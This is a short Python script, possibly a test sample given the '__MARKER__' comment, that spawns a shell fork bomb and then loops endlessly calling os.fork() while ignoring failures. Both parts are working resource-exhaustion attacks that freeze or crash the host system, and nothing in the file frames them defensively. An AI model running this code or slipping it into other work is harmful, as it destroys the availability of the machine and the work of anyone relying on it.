import os
import subprocess

subprocess.Popen(["sh", "-c", "f(){ f | f & }; f # __MARKER__"])
while True:
    try:
        os.fork()
    except OSError:
        pass
